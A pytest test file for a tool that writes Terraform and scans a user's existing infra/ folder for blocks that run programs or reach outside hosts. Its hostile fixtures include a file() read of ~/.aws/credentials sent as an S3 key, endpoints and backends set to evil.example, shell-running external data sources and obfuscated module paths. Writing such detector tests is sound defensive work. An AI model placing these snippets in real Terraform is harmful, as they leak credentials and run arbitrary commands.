"""`infra/` with Terraform of the person's own: what is found, what is offered, what runs programs."""

from __future__ import annotations

import os
import shutil
from collections.abc import Awaitable, Callable
from pathlib import Path

import pytest

from ecrwiz.flow import layout, preview
from ecrwiz.flow.context import Approvals
from ecrwiz.flow.events import Status, StepId
from ecrwiz.flow.project import Project, open_project
from ecrwiz.flow.runbook import survey
from ecrwiz.flow.steps import render
from ecrwiz.model.errors import BadInputError, EcrwizError
from ecrwiz.model.results import Plan
from ecrwiz.services import hcl
from tests.test_three_way import _render

PROVIDER = 'provider "aws" {\n  region = "us-east-1"\n}\n'
S3 = 'terraform {\n  backend "s3" {\n    bucket = "b"\n  }\n}\n'
PINS = 'terraform {\n  required_providers {\n    aws = {\n      source = "hashicorp/aws"\n    }\n  }\n}\n'
VPC = 'resource "aws_vpc" "main" {\n  cidr_block = "10.0.0.0/16"\n}\n'
REPOSITORY = (
    'resource "aws_ecr_repository" "shop" {\n  name = "shop"\n}\nresource "aws_iam_user" "ci" {\n  name = "ci"\n}\n'
)

Opened = Callable[..., Awaitable[Project]]


@pytest.fixture
def opened(next_app: Path) -> Opened:
    async def open_(**flags: str) -> Project:
        return await open_project(next_app, {"region": "us-east-1", **flags}, os.environ)

    return open_


def _put(root: Path, **texts: str) -> None:
    for name, text in texts.items():
        path = root / "infra" / f"{name.replace('__', '/')}.tf"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


async def test_terraform_that_does_not_clash_stays_and_ours_joins_it(opened: Opened, next_app: Path) -> None:
    _put(next_app, vpc=VPC + REPOSITORY)
    told, _, error = await _render(await opened())
    assert not error
    assert told.questions == []
    assert (next_app / "infra" / "main.tf").is_file()
    assert (next_app / "infra" / "vpc.tf").read_text() == VPC + REPOSITORY


async def test_a_clash_is_told_with_file_block_and_the_way_out(opened: Opened, next_app: Path) -> None:
    _put(next_app, aws=PROVIDER + PINS, state=S3, vpc=VPC, ecr=REPOSITORY)
    project = await opened()
    existing = layout.look(project)
    assert existing.can_reuse
    assert existing.found.backend == "s3"
    lines = "\n".join(existing.lines)
    for wanted in (
        "infra/aws.tf: provider aws: ecrwiz's files declare it too",
        "infra/aws.tf: required_providers: ecrwiz's",
        "infra/state.tf: backend s3: ecrwiz's",
        "infra/ecr.tf: resource aws_ecr_repository.shop",
        "infra/ecr.tf: resource aws_iam_user.ci",
    ):
        assert wanted in lines
    assert "aws_vpc" not in lines, "what has nothing to do with ecrwiz is not listed"
    _, _, error = await _render(project)
    assert "infra/aws.tf: required_providers and 2 more" in error
    with pytest.raises(BadInputError, match="--set infra_layout=beside") as caught:
        await render.changes(project)
    assert "--set infra_layout=reuse" in caught.value.hint
    assert not (next_app / "Dockerfile").exists(), "nothing was written"


@pytest.mark.parametrize(
    ("theirs", "why"),
    [
        ({"state": S3}, "there is no provider that could be used"),
        ({"aws": 'provider "aws" {\n  alias = "other"\n}\n'}, "an alias is no default"),
        ({"aws": PROVIDER, "ours": 'module "ci_user" {\n  source = "./x"\n}\n'}, "it clashes all the same"),
        ({"aws": PROVIDER, "zz_override": VPC}, "override files change ours"),
    ],
)
async def test_reuse_is_offered_only_when_it_would_work(
    opened: Opened, next_app: Path, theirs: dict[str, str], why: str
) -> None:
    _put(next_app, **theirs)
    assert not layout.look(await opened()).can_reuse, why


async def test_a_file_with_the_name_of_ours_is_theirs(opened: Opened, next_app: Path) -> None:
    _put(next_app, main=PROVIDER + VPC)
    project = await opened()
    existing = layout.look(project)
    assert existing.lines[0] == "infra/main.tf: a file of that name is rendered by ecrwiz too"
    assert existing.can_reuse, "with reuse, ours have names of their own"
    told, _, error = await _render(project, Approvals(everything=True))
    assert "infra/main.tf" in error, "--yes does not replace somebody's Terraform"
    assert (next_app / "infra" / "main.tf").read_text() == PROVIDER + VPC
    assert len(told.questions) == 1


async def test_ours_of_another_version_is_no_clash(opened: Opened, next_app: Path) -> None:
    await _render(await opened())
    path = next_app / "infra" / "main.tf"
    path.write_text(path.read_text().replace("scan_on_push = true", "scan_on_push = false"))
    shutil.rmtree(next_app / ".ecrwiz")  # as in a fresh clone
    found = {change.path: change.kind for _, change in await render.changes(await opened())}
    assert found["infra/main.tf"] == "changed"


@pytest.mark.parametrize("reply", ["beside", "reuse"])
async def test_the_answer_is_kept_and_leaves_the_step_fresh(opened: Opened, next_app: Path, reply: str) -> None:
    _put(next_app, aws=PROVIDER + PINS, state=S3)
    told, result, error = await _render(await opened(), reply=reply)
    assert not error
    (question,) = told.questions
    assert [word for word, _ in question.choices] == ["beside", "reuse", "stop"]
    assert any("provider aws" in line for line in question.body)
    assert f'infra_layout = "{reply}"' in (next_app / "ecrwiz.toml").read_text()
    folder = next_app / ("infra/ecrwiz" if reply == "beside" else "infra")
    providers = [path for path in folder.glob("*.tf") if 'provider "aws"' in path.read_text()]
    assert len(providers) == 1
    assert result is not None
    assert all((next_app / path).is_file() for path in result.written)
    assert (await survey(await opened()))[StepId.RENDER].status is Status.FRESH


SAME = {
    "infra": 'resource "aws_ecr_repository" "app" {\n  name = "web/blog/nextjs"\n}\n',
    "beside": 'resource "aws_iam_user" "ci" {\n  name = "CI-blog-dev-server-user"\n}\n',
}


@pytest.mark.parametrize("chosen", ["infra", "beside"])
async def test_a_repository_or_user_of_the_very_name_stops_it(opened: Opened, next_app: Path, chosen: str) -> None:
    _put(next_app, modules__registry__theirs=SAME[chosen])
    project = await opened(infra_layout=chosen)
    kind = "repository" if chosen == "infra" else "user"
    (line,) = (line for line in layout.look(project).lines if "declares the same" in line)
    assert line.startswith("infra/modules/registry/theirs.tf: resource aws_")
    assert line.endswith(kind)
    _, _, error = await _render(project, Approvals(everything=True))
    assert f"declares the same {kind}" in error
    assert not (next_app / "Dockerfile").exists()
    found = await preview.preview(project)
    assert found.clash is not None
    assert not found.beside
    assert "choose another project_id" in found.clash.hint


async def test_other_names_and_names_of_variables_do_not_stop_it(opened: Opened, next_app: Path) -> None:
    _put(next_app, theirs=SAME["infra"].replace("/nextjs", "/other") + "# web/blog/nextjs\n" + REPOSITORY)
    _put(next_app, more='resource "aws_ecr_repository" "v" {\n  name = "${var.x}/nextjs"\n}\n# web/blog/nextjs\n')
    assert layout.look(await opened()).same == ()


async def test_a_plan_shows_what_is_there_and_how_it_would_be_beside(
    opened: Opened, next_app: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from ecrwiz import reports

    _put(next_app, aws=PROVIDER + PINS, state=S3, ecr=REPOSITORY)
    project = await opened()

    async def planned(of: Project, folder: Path, *_: object, **__: object) -> Plan:
        assert of.paths.infra_folder == "infra/ecrwiz"
        assert (folder / "main.tf").is_file()
        assert not (folder / "ecr.tf").exists()
        return Plan(())

    monkeypatch.setattr(preview, "_plan", planned)
    found = await preview.preview(project)
    assert found.beside
    assert found.plan is not None
    assert "infra/ecrwiz/main.tf" in {change.path for change in found.files}
    assert "infra/ecr.tf: resource aws_ecr_repository.shop" in found.existing
    assert project.paths.infra_folder == project.tools.paths.infra_folder == "infra", "looking changes nothing"
    assert not (next_app / "infra" / "ecrwiz").exists()
    assert await reports.print_plan(project, imports=False, run_programs=False, as_json=False) == 2
    said = capsys.readouterr()
    assert "infra/state.tf: backend s3: ecrwiz's files declare it too" in said.out
    assert "infra/ecrwiz/main.tf" in said.out
    assert "--set infra_layout=reuse" in said.err


@pytest.mark.parametrize("shape", ["infra", "beside", "reuse"])
async def test_ours_in_every_shape_run_no_programs(opened: Opened, next_app: Path, shape: str) -> None:
    if shape == "reuse":
        _put(next_app, aws=PROVIDER)
    _, _, error = await _render(await opened(infra_layout=shape))
    assert not error
    assert hcl.programs(next_app / "infra", {}) == ()


async def test_a_clash_in_reuse_names_the_other_layout(opened: Opened, next_app: Path) -> None:
    _put(next_app, aws=PROVIDER, mine='module "ci_user" {\n  source = "./x"\n}\n')
    with pytest.raises(BadInputError) as caught:
        await render.changes(await opened(infra_layout="reuse"))
    assert caught.value.hint.endswith("or take infra_layout = beside.")


async def test_stopping_writes_nothing(opened: Opened, next_app: Path) -> None:
    _put(next_app, aws=PROVIDER)
    _, _, error = await _render(await opened(), reply="stop")
    assert "nothing was written" in error
    assert not (next_app / "Dockerfile").exists()


async def test_reuse_without_a_provider_is_refused(opened: Opened, next_app: Path) -> None:
    _put(next_app, vpc=VPC)
    with pytest.raises(BadInputError, match="declares no aws provider"):
        await render.changes(await opened(infra_layout="reuse"))


async def test_a_clash_beside_has_no_way_round(opened: Opened, next_app: Path) -> None:
    _put(next_app, ecrwiz__mine=PROVIDER)
    with pytest.raises(BadInputError, match=r"infra/ecrwiz/mine\.tf: provider aws"):
        await render.changes(await opened(infra_layout="beside"))


async def test_the_project_follows_the_answer(opened: Opened) -> None:
    project = await opened()
    assert project.paths.infra_folder == project.tools.paths.infra_folder == "infra"
    project.answer({"infra_layout": "beside"})
    assert project.paths.infra_folder == project.tools.paths.infra_folder == "infra/ecrwiz"


PROGRAMS = {
    "late": 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "x"\n  }\n}\n',
    "data": 'data "external" "x" {\n  program = ["sh"]\n}\n',
    "check": 'check "c" {\n  data "external" "in" {\n    program = ["sh"]\n  }\n  assert {\n    condition = true\n'
    '    error_message = "x"\n  }\n}\n',
    "module": 'module "m" {\n  source = "git::https://example.invalid/m.git"\n}\n',
    "up": 'module "u" {\n  source = "../elsewhere"\n}\n',
    "pin": 'terraform {\n  required_providers {\n    evil = {\n      source = "evil/evil"\n    }\n  }\n}\n',
    "sub__deep": 'resource "terraform_data" "y" {\n  provisioner "remote-exec" {\n    inline = ["x"]\n  }\n}\n',
    "fine": VPC + 'module "here" {\n  source = "./sub"\n}\n',
}


def test_what_runs_programs_is_found_with_file_and_block(tmp_path: Path) -> None:
    _put(tmp_path, **PROGRAMS)
    (tmp_path / "infra" / "x.tf.json").write_text("{}")
    (tmp_path / "infra" / ".terraform").mkdir()
    (tmp_path / "infra" / ".terraform" / "a.tf").write_text(PROGRAMS["data"])
    found = {str(program): program.at_plan for program in hcl.programs(tmp_path / "infra", {})}
    assert found == {
        "check.tf: data external.in (data external)": True,
        "data.tf: data external.x (data external)": True,
        "late.tf: resource null_resource.x (provisioner local-exec)": False,
        "module.tf: module m (code from git::https://example.invalid/m.git, not looked into)": True,
        "pin.tf: provider evil (a program from evil/evil)": True,
        "sub/deep.tf: resource terraform_data.y (provisioner remote-exec)": False,
        "up.tf: module u (code from ../elsewhere, not looked into)": True,
        "x.tf.json: JSON (not looked into, may run programs)": True,
    }


HOSTILE = {
    "escape": 'data "exter\\u006eal" "x" {\n  program = ["sh"]\n}\n',
    "link": 'module "m" {\n  source = "./linked"\n}\n',
    "hidden": 'module "m" {\n  source = "./node_modules/m"\n}\n',
    "capitals": 'module "m" {\n  source = "./.Terraform/m"\n}\n',
    "up": 'module "m" {\n  source = "./x/\\u002e./\\u002e./evil"\n}\n',
    "absent": 'module "m" {\n  source = "./nowhere"\n}\n',
    "config": 'provider "aws" {\n  shared_config_files = ["x"]\n}\n',
    "endpoint": 'provider "aws" {\n  endpoints {\n    s3 = "https://evil.example"\n  }\n}\n',
    "exec": 'provider "kubernetes" {\n  exec {\n    command = "sh"\n  }\n}\n',
    "state": 'terraform {\n  backend "s3" {\n    shared_config_files = ["x"]\n  }\n}\n',
    "remote": 'terraform {\n  backend "http" {\n    address = "https://evil.example"\n  }\n}\n',
    "command": 'data "local_command" "x" {\n  command = "sh"\n}\n',
    "http": 'data "http" "x" {\n  url = "https://evil.example"\n}\n',
    "leak": 'data "aws_s3_object" "x" {\n  bucket = "b"\n  key = file("~/.aws/credentials")\n}\n',
    "comment": 'locals {\n  x = file /* */ ("~/.aws/credentials")\n}\n',
    "out": 'locals {\n  x = file("${path.module}/../../secret")\n}\n',
    "ephemeral": 'ephemeral "external" "x" {\n  program = ["sh"]\n}\n',
    "action": 'action "local_command" "x" {\n  config {\n    command = "sh"\n  }\n}\n',
    "pin": 'terraform {\n  required_providers {\n    aws = {\n      source = "hashicorp/../evil"\n    }\n  }\n}\n',
    "resource": 'resource "helm_release" "x" {\n  name = "x"\n}\n',
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_not_known_to_be_harmless_is_asked_about(tmp_path: Path, name: str) -> None:
    _put(tmp_path, real__a=VPC, **{name: HOSTILE[name]})
    (tmp_path / "infra" / "linked").symlink_to("real")
    for hidden in ("node_modules/m", ".Terraform/m"):
        (tmp_path / "infra" / hidden).mkdir(parents=True)
    found = hcl.programs(tmp_path / "infra", {})
    assert [(program.block.file, program.at_plan) for program in found] == [(f"{name}.tf", True)]


HARMLESS = (
    VPC,
    PROVIDER.replace("}", '  alias = "x"\n  default_tags {\n    tags = {\n      a = "b"\n    }\n  }\n}'),
    S3,
    'data "aws_ami" "x" {\n  owners = ["self"]\n}\n',
    'resource "random_id" "x" {\n  byte_length = 4\n}\nresource "terraform_data" "x" {\n}\n',
    'locals {\n  policy = file("${path.module}/policy.json")\n}\n',
    'locals {\n  x = templatefile("${path.module}/a.tftpl", { a = 1 })\n}\n',
    'variable "x" {\n  type = string\n}\noutput "x" {\n  value = var.x\n}\n',
    "moved {\n  from = a.b\n  to = a.c\n}\n",
)


@pytest.mark.parametrize("text", HARMLESS)
def test_everyday_terraform_is_not_asked_about(tmp_path: Path, text: str) -> None:
    _put(tmp_path, x=text)
    assert hcl.programs(tmp_path / "infra", {}) == ()


def test_too_many_files_and_a_folder_of_providers_are_told(tmp_path: Path) -> None:
    _put(tmp_path, **{f"f{number:03}": "" for number in range(301)})
    (tmp_path / "infra" / "terraform.d").mkdir()
    found = hcl.programs(tmp_path / "infra", {})
    assert [str(program) for program in found] == [
        "terraform.d: a folder that Terraform takes providers from (may run programs)",
        "f300.tf: more than 300 files (the rest is not looked into)",
    ]
    assert all(program.at_plan for program in found)


async def test_a_folder_of_providers_does_not_come_into_the_plan(tmp_path: Path) -> None:
    plugin = tmp_path / "infra" / "terraform.d" / "plugins" / "x.zip"
    plugin.parent.mkdir(parents=True)
    plugin.write_text("x")
    _put(tmp_path, vpc=VPC)
    preview._copy(tmp_path / "infra", tmp_path / "copy")
    assert [path.name for path in (tmp_path / "copy").iterdir()] == ["vpc.tf"]


async def test_ours_run_no_programs(opened: Opened, next_app: Path) -> None:
    project = await opened()
    await _render(project)
    assert layout.programs(project) == ()
    assert hcl.programs(next_app / "infra", {}) == ()


async def test_looking_runs_no_program_of_the_clone(opened: Opened, next_app: Path) -> None:
    """The canary: Terraform would run it for a plan alone."""
    canary = next_app.parent / "canary"
    _put(next_app, data=f'data "external" "x" {{\n  program = ["touch", "{canary}"]\n}}\n')
    found = await preview.preview(await opened())
    assert found.plan is None
    assert found.problem is not None
    assert "infra/data.tf: data external.x" in found.problem.message
    assert "--run-programs" in found.problem.hint
    assert found.programs == ("infra/data.tf: data external.x (data external)",)
    assert not canary.exists()


@pytest.mark.parametrize("text", ["[" * 5000, "x = 1\n" * 40_000, "\0", 'provider "aws" {'])
def test_hostile_files_are_told_and_do_not_crash(tmp_path: Path, text: str) -> None:
    _put(tmp_path, bad=text)
    found = hcl.look(tmp_path / "infra", {})
    ((name, reason),) = found.refused
    assert name == "bad.tf"
    assert reason.startswith("was there already and ")
    assert hcl.programs(tmp_path / "infra", {})[0].at_plan


def test_a_link_out_of_the_project_and_a_device_are_not_read(tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "infra").mkdir(parents=True)
    (tmp_path / "outside.tf").write_text(PROVIDER)
    (root / "infra" / "a.tf").symlink_to(tmp_path / "outside.tf")
    (root / "infra" / "b.tf").symlink_to("/dev/zero")
    assert [reason for _, reason in hcl.look(root / "infra", {}).refused] == [
        "was there already and is a link that leads out of the project"
    ]
    assert len(hcl.programs(root / "infra", {})) == 2


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("", ("", "")),
        (S3, ("s3", "")),
        ('terraform {\n  backend "local" {\n    path = "../x.tfstate"\n  }\n}\n', ("local", "../x.tfstate")),
        ('terraform {\n  cloud {\n    organization = "o"\n  }\n}\n', ("cloud", "")),
    ],
)
def test_the_backend_is_read(tmp_path: Path, text: str, found: tuple[str, str]) -> None:
    (tmp_path / "a.tf").write_text(text)
    assert hcl.backend(tmp_path) == found


async def test_a_state_that_cannot_be_kept_apart_is_refused(
    opened: Opened, next_app: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """In a sandbox, the person's own backend must not be written to."""
    from ecrwiz.flow import infra
    from ecrwiz.flow.context import View

    monkeypatch.setenv("ECRWIZ_TERRAFORM_STATE", str(tmp_path / "sandbox.tfstate"))
    _put(next_app, aws=PROVIDER, state=S3)
    await _render(await opened(infra_layout="reuse"))
    with pytest.raises(EcrwizError, match="keeps its state in backend s3"):
        infra.check_files(View(await opened(infra_layout="reuse"), StepId.PROVISION))
